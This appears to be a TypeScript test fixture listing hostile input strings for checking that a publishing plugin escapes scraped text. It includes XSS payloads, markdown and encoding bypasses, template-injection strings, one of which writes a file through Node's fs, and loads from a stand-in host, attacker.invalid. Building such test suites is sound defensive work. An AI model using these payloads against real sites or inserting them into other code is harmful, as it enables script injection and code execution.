/**
 * Hostile strings a scraper might hand the plugin: markup, script, unsafe
 * URLs and template syntax. Each is one line (it can stand as a headline, a
 * byline, a caption, a body paragraph or a related headline) unless it is in
 * `multilinePayloads`.
 *
 * Every payload that would run does one of three things, all of which the
 * checks look for: call `alert`/`confirm`/`prompt` (a dialog), set
 * `window.wirePwned`, or request `https://attacker.invalid/` (a request that
 * leaves the page). Template payloads evaluate to `1337` (`7*191`) or print
 * `WIRE_EVALUATED`, which must never appear in a built page.
 */

/** Text that a template engine or a script would produce if it ran. */
export const evaluationMarkers = ['1337', 'WIRE_EVALUATED', 'wirePwned=1'] as const

/** One-line payloads. */
export const payloads: readonly string[] = [
  // Plain HTML script and event handlers.
  '<script>alert(1)</script>',
  '<script>window.wirePwned=true</script>',
  '<SCRIPT SRC=https://attacker.invalid/x.js></SCRIPT>',
  '<script src="//attacker.invalid/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://attacker.invalid/pixel.png">',
  '<IMG SRC="javascript:alert(1);">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.wirePwned=true</script>"></iframe>',
  '<object data="https://attacker.invalid/x.swf"></object>',
  '<embed src="https://attacker.invalid/x.swf">',
  '<link rel=stylesheet href=https://attacker.invalid/x.css>',
  '<style>@import "https://attacker.invalid/x.css";</style>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
  '<base href="https://attacker.invalid/">',
  '<form action="https://attacker.invalid/"><button>Go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<a href="javascript:alert(1)">click</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // Breaking out of the contexts a layout puts text in.
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '--><script>alert(1)</script><!--',
  '<!--<script>alert(1)</script>-->',
  ']]><script>alert(1)</script>',
  // Entities and encodings that turn into markup when decoded twice.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞',
  // Markdown links and images with unsafe URLs.
  '[click me](javascript:alert(1))',
  '[click me](JaVaScRiPt:alert(1))',
  '[click me](java\tscript:alert(1))',
  '[click me]( javascript:alert(1))',
  '[click me](<javascript:alert(1)>)',
  '[click me](javascript&#58;alert(1))',
  '[click me](&#106;avascript:alert(1))',
  '[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click me](vbscript:msgbox(1))',
  '[click me](//attacker.invalid/)',
  '[click me](\\\\attacker.invalid\\share)',
  '[click me](https://example.com/ "title\\" onmouseover=\\"alert(1))',
  '![alt text](https://attacker.invalid/pixel.png)',
  '![x" onerror="alert(1)](x)',
  '<javascript:alert(1)>',
  '<https://attacker.invalid/autolink>',
  '[a](https://example.com/"onmouseover="alert(1))',
  '*<script>alert(1)</script>* and **<img src=x onerror=alert(1)>**',
  '`<script>alert(1)</script>`',
  '[<img src=x onerror=alert(1)>](https://example.com/)',
  // Template syntax a layout engine might evaluate.
  '{{ 7*191 }}',
  '{{ "WIRE_" + "EVALUATED" }}',
  '{% set x = 7*191 %}{{ x }}',
  '{{ content }}',
  '{{ content | safe }}',
  '{% include "secret.njk" %}',
  '{% raw %}{{ 7*191 }}{% endraw %}',
  '{%- if true -%}WIRE_{{ "EVALUATED" }}{%- endif -%}',
  "{{ range.constructor(\"return globalThis.process.mainModule.require('fs').writeFileSync('/tmp/wire-pwned','1')\")() }}",
  '{{ \'<script>alert(1)</script>\' | safe }}',
  '{% render "secret" %}',
  '{{ 7 | times: 191 }}',
  '${7*191}',
  '<%= 7*191 %>',
  // Front-matter-looking and control text.
  '---',
  '\u0000<script>alert(1)</script>',
  '\u202e<script>alert(1)</script>',
  '<scr\u200bipt>alert(1)</scr\u200bipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<script\n>alert(1)</script\n>'.replace(/\n/gu, ' ')
]

/** Payloads that span lines: only ever in a body. */
export const multilinePayloads: readonly string[] = [
  '<script>\nalert(1)\n</script>',
  '<div\nonmouseover="alert(1)">hover</div>',
  '```\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '<!--\n--><script>alert(1)</script>'
]
